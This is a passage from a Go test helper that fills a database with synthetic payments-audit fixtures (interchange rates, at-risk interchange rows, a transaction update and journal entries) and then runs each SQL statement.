			 '{"amount":"12.34","currency":"USD"}')`,
		// The payments audit: an interchange estimate, a wallet payment, a terminal.
		`INSERT INTO interchange_rates VALUES ('VISA', 0.005, 0.009, 'default', now()), ('*', 0.004, 0.0075, 'default', now())`,
		`INSERT INTO interchange_at_risk VALUES ('2026-11-20', 'm1', 'VISA', 'USD', 2, 1, 1, 300.00, 0.005, 0.009, 1.90),
			('2026-11-20', 'm3', 'DISCOVER', 'JPY', 1, 1, 0, 1500, 0.004, 0.0075, 11)`,
		`UPDATE transactions SET payment_solution = '001', r_code = '1', application_names = 'ics_auth,ics_bill' WHERE transaction_id = 't3'`,
		`INSERT INTO journal (merchant_id, file, line, time, status, call_kind, transaction_id, amount, currency, response_status,
			terminal_id, file_sha256, imported_at) VALUES
			('m1', 'j', 1, TIMESTAMPTZ '2026-11-19 09:00:00+00', 201, 'sale', 't2', 1234.75, 'USD', 'AUTHORIZED', 'TRM-A', 's', now()),
			('m1', 'j', 2, TIMESTAMPTZ '2026-11-19 09:30:00+00', 201, 'sale', 'tx', 5.00, 'USD', 'DECLINED', 'TRM-A', 's', now())`,
	}
	for _, s := range stmts {
		if _, err := db.Exec(s); err != nil {
			t.Fatalf("fixture: %v\n%s", err, s)
		}
	}
	addKindExamples(t, db)
	return db
}
